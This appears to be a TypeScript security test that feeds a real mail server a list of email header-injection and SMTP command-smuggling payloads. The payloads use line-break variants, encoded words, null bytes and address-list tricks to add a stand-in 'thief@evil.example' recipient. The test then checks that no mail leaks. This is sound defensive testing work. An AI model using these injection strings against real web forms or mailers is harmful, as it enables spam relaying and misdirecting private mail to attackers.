import { mustBe, mustBeAtLeast, reported, type Proof } from '../harness/proof.ts';
import { addressees, attackMails, headerNames } from './mail-attack.ts';
import { holdMails } from './slow-domain.ts';

const THIEF = 'thief@evil.example';

const breaks = [
  '\r\n',
  '\n',
  '\r',
  '\u0085',
  '\u2028',
  '%0d%0a',
  '\\r\\n',
  '\u000b',
  '\r\n ',
  '=0D=0A',
  '=?utf-8?Q?=0D=0A?=',
];
const headers = [
  `Bcc: ${THIEF}`,
  `To: ${THIEF}`,
  'X-Evil: 1',
  'Content-Type: text/html\r\n\r\n<b>',
  'Subject: Evil',
];
const payloads = [
  ...breaks.map((one, index) => `Dana${one}${headers[index % headers.length]}`),
  ...headers.slice(1).map((one) => `Dana\r\n${one}`),
  THIEF,
  `${THIEF}, a@example.com`,
  `a@example.com,${THIEF}`,
  `a@example.com;${THIEF}`,
  `"a@example.com" <${THIEF}>`,
  `<${THIEF}>`,
  `a@example.com\r\nRCPT TO:<${THIEF}>`,
  `a@example.com> ORCPT=rfc822;${THIEF}`,
  `Dana\r\n.\r\nMAIL FROM:<${THIEF}>\r\nRCPT TO:<${THIEF}>\r\nDATA`,
  `a@example.com\u0000${THIEF}`,
  `a%${THIEF}`,
  `${THIEF}(a@example.com)`,
  `a@example.com ${THIEF}`,
  `${'x'.repeat(99)}\r\nBcc:${THIEF}`,
  `=?utf-8?B?${Buffer.from(`\r\nBcc: ${THIEF}`).toString('base64')}?=`,
  `.\r\n.`,
];

/** T17: header injection and foreign recipients, against a real mail server. */
export const mailInjection: Proof<{ payloads: number }> = {
  name: 'T17',
  title: 'Headers and recipients in every place for text of every call',
  sizes: { small: { payloads: 1 }, full: { payloads: payloads.length } },
  async run(size, _seed, stage) {
    const { sent, taken, statuses, mails, ours, deaths } = await attackMails(
      stage,
      payloads,
      size.payloads,
    );
    const plain = mails.filter((mail) => mail.to.length === 1 && addressees(mail).length === 1);
    const foreign = mails.filter((mail) =>
      [...mail.to, ...addressees(mail)].some((one) => !ours.has(one)),
    );
    for (const mail of foreign.slice(0, 5))
      stage.say(`  ${mail.to.join(' ')} | ${addressees(mail).join(' ')}`);
    const shapes = new Set(mails.map(headerNames));
    for (const shape of shapes) stage.say(`  headers: ${shape}`);
    return [
      reported('texts sent', sent),
      reported('calls that were taken', taken),
      mustBe(
        'answers of 500 and above',
        [...statuses].reduce((sum, [status, count]) => sum + (status >= 500 ? count : 0), 0),
        0,
      ),
      mustBeAtLeast('mails', mails.length, 20),
      mustBe(
        'mails without exactly one recipient, in envelope and header',
        mails.length - plain.length,
        0,
      ),
      mustBe(
        'mails to addresses other than those of our records or the lookup itself',
        foreign.length,
        0,
      ),
      mustBe('different lists of header names', shapes.size, 1),
      mustBe('servers that ended by themselves', deaths, 0),
      ...(await holdMails(stage)),
    ];
  },
};
